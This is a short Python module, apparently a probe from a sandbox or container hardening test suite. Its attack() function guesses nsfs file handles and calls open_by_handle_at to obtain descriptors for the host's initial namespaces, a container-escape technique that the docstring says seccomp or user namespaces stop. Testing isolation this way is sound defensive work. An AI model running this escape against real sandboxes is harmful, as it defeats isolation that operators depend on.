"""Open the machine's own namespaces by their well-known numbers.

Technique: since Linux 6.18 namespaces have file handles, and those of the initial namespaces are constants:
    open_by_handle_at(2) on FD_NSFS_ROOT needs no file of /proc and no directory to begin at.
Success: a descriptor of an initial namespace.
Stopped by: seccomp, user_namespace
"""
import struct

FD_NSFS_ROOT = -10003
FILEID_NSFS = 0xF1
# Kind, CLONE_NEW* flag and inode number (linux/nsfs.h). The id beside it depends on the kernel, and is small.
INITIAL = [
    ("ipc", 0x800_0000, 0xEFFF_FFFF), ("uts", 0x400_0000, 0xEFFF_FFFE), ("user", 0x1000_0000, 0xEFFF_FFFD), ("pid", 0x2000_0000, 0xEFFF_FFFC),
    ("cgroup", 0x200_0000, 0xEFFF_FFFB), ("net", 0x4000_0000, 0xEFFF_FFF9), ("mnt", 0x2_0000, 0xEFFF_FFF8),
]  # fmt: skip


def attack():
    won = set()
    for kind, flag, inode in INITIAL:
        for identity in range(20):
            # struct file_handle: length, type, then struct nsfs_file_handle: id, kind, inode number.
            handle = struct.pack("=IiQII", 16, FILEID_NSFS, identity, flag, inode)
            fd = answer(syscall, "open_by_handle_at", FD_NSFS_ROOT, handle, os.O_RDONLY)
            if isinstance(fd, int):
                won.add(os.readlink(f"/proc/self/fd/{fd}"))
                os.close(fd)
    return won and f"initial namespaces: {sorted(won)}"


def twin():
    """Opening the files of one's own namespaces, and comparing them."""
    with open("/proc/self/ns/net") as one, open(f"/proc/{os.getpid()}/ns/net") as other:
        assert os.path.sameopenfile(one.fileno(), other.fileno())
